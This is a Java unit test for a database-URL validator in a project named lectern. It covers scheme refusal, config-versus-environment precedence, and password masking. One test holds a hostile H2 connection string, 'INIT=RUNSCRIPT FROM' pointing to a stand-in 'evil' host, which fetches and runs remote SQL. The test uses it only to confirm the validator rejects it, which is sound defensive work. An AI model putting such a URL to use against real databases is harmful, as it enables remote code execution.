package io.lectern.store.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

class DatabaseTargetTest {

    @Test
    void otherSchemesAreRefused() {
        for (String url : List.of("jdbc:mysql://db/lectern", "jdbc:sqlite:/tmp/x", "http://example.com", "")) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> new DatabaseTarget(url, "u", "p"));
            assertTrue(e.getMessage().contains("use jdbc:h2:… or jdbc:postgresql:…"), e.getMessage());
        }
        assertThrows(IllegalArgumentException.class,
                () -> DatabaseTarget.resolve("", "", "", "", null, Map.of("LECTERN_DB_URL", "jdbc:oracle:thin:@x")));
    }

    @Test
    void h2UrlsThatRunCodeOrOpenPortsAreRefused() {
        assertThrows(IllegalArgumentException.class, () -> new DatabaseTarget("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "", ""));
        assertThrows(IllegalArgumentException.class, () -> new DatabaseTarget("jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE", "", ""));
    }

    @Test
    void choiceOrder() {
        Map<String, String> env = Map.of("LECTERN_DB_URL", "jdbc:postgresql://envhost/db", "LECTERN_DB_USER", "envuser",
                "LECTERN_DB_PASSWORD", "envpass");
        DatabaseTarget configured = DatabaseTarget.resolve("jdbc:postgresql://cfg/db", "cfguser", "cfgpass", "", null, env);
        assertEquals(new DatabaseTarget("jdbc:postgresql://cfg/db", "cfguser", "cfgpass"), configured);
        assertEquals(Dialect.POSTGRESQL, configured.dialect());

        assertEquals(new DatabaseTarget("jdbc:postgresql://envhost/db", "envuser", "envpass"),
                DatabaseTarget.resolve(" ", "", "", "", null, env));

        DatabaseTarget embedded = DatabaseTarget.resolve("", "", "", "", "/srv/lectern", Map.of());
        assertEquals("jdbc:h2:file:/srv/lectern/db/lectern;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0", embedded.url());
        assertEquals("lectern", embedded.user());
        assertEquals(Dialect.H2, embedded.dialect());

        assertEquals("jdbc:h2:file:/data/db/lectern;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0",
                DatabaseTarget.resolve("", "", "", "/data", "/srv/lectern", Map.of()).url());
        assertEquals(Path.of("lectern-data").toAbsolutePath(), DatabaseTarget.dataFolder("", null));
    }

    @Test
    void descriptionNeverShowsThePassword() {
        DatabaseTarget t = new DatabaseTarget("jdbc:postgresql://db/lectern?password=secret1&ssl=true", "me", "secret2");
        assertEquals("PostgreSQL at jdbc:postgresql://db/lectern as user 'me'", t.describe());
        assertFalse(t.toString().contains("secret"));
        assertEquals("H2 at jdbc:h2:file:/x as user 'lectern'", new DatabaseTarget("jdbc:h2:file:/x;PASSWORD=secret", null, null).describe());
    }
}
